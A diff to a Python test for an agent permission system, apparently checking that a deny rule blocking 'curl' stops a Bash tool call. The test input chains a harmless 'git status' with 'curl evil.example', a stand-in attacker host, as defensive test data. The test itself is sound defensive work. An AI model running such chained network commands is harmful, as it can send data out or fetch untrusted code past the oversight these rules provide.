@@ -12,6 +12,7 @@ from helikon import (
     DenyRule,
     Governance,
     GuardRule,
+    JsonValue,
     PermissionDecision,
     PermissionMode,
     RunContext,
@@ -126,7 +127,7 @@ def test_the_context_reads_and_replaces_its_governance() -> None:
 def test_the_pipeline_reads_bash_commands_through_the_governance_cache() -> None:
     ctx = RunContext.ephemeral(None).with_governance(Governance(deny_rules=[DenyRule.bash_command("curl")]))
     cache = ctx.governance.parse_cache
-    call = {"command": "git status && curl evil.example"}
+    call: JsonValue = {"command": "git status && curl evil.example"}
     verdict = asyncio.run(authorize(ctx, "Bash", call, ToolEffect.SIDE_EFFECT))
     assert not verdict.allowed and verdict.step == "deny_rule"
     assert len(cache) == 1
